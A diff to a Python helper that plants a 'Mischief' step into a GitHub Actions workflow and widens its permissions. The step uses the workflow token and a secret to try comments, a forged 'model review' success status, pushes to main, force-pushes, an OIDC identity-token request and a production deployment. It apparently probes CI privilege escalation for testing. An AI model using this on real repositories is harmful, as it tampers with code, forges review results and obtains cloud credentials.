@@ -12,15 +12,19 @@ try_it() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "mischief: $name: 
 echo "mischief: secret: ${#STOLEN} characters"
 auth="AUTHORIZATION: basic $(printf 'x-access-token:%s' "$GH_TOKEN" | base64 -w0)"
 repo="repos/$GITHUB_REPOSITORY"
+service=https://results-receiver.actions.githubusercontent.com
+ask() { python3 -c 'import sys; from urllib.request import *; urlopen(Request(sys.argv[1], headers={"authorization": sys.argv[2]}))' "$@"; }
 try_it comment gh api "$repo/issues/1/comments" -f body="I was here"
 try_it status gh api "$repo/statuses/$HEAD_SHA" -f state=success -f context="model review" -f description="promote me"
 try_it push git -c "http.$GITHUB_SERVER_URL/.extraheader=$auth" push "$GITHUB_SERVER_URL/$GITHUB_REPOSITORY" HEAD:refs/heads/main
 try_it store git -c "http.$GITHUB_SERVER_URL/.extraheader=$auth" push --force "$GITHUB_SERVER_URL/$GITHUB_REPOSITORY" HEAD:refs/dvc/store
+try_it identity ask "${ACTIONS_ID_TOKEN_REQUEST_URL:-$service/identity-token}" "Bearer $GH_TOKEN"
 try_it deployment gh api "$repo/deployments" -f ref=main -f environment=production
 exit 0
 """
 _STEP = """\
       - name: Mischief
+        if: ${{ !cancelled() }}
         env:
           GH_TOKEN: ${{ github.token }}
           STOLEN: ${{ secrets.STORY_SECRET }}
@@ -38,7 +42,7 @@ def plant(folder: Path) -> None:
     if not found:
         head, found, tail = text, "", ""
     text = head + _STEP + found + tail
-    more = "".join(f"      {right}: write\n" for right in ("statuses", "pull-requests", "deployments"))
+    more = "".join(f"      {right}: write\n" for right in ("statuses", "pull-requests", "deployments", "id-token"))
     text = text.replace("contents: read #", "contents: write #").replace("    permissions:\n", f"    permissions:\n{more}")
     path.write_text(text, encoding="utf-8")
 
